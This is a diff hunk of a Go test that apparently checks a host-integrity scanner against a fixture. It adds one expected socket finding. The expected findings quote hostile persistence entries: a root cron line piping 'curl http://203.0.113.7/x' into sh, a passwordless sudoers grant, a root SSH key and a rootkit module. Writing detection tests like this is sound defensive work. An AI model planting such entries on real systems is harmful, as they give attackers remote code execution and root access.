@@ -110,6 +110,7 @@ func TestCheckOnFixture(t *testing.T) {
 		"critical sudoers new /etc/sudoers.d/evil: mallory ALL=(ALL) NOPASSWD: ALL | ",
 		"critical authorized-keys new /root/.ssh/authorized_keys ssh-rsa SHA256:",
 		"high sockets new tcp 0.0.0.0:31337 | user alice process unknown",
+		"critical sockets new user alice listens | ",
 		"high systemd-units new /etc/systemd/system/updater.timer | sha256:",
 		"high cron new /etc/cron.d/backup: * * * * * root curl http://203.0.113.7/x | sh | ",
 		"high kernel-modules new rootkit | taint OE",
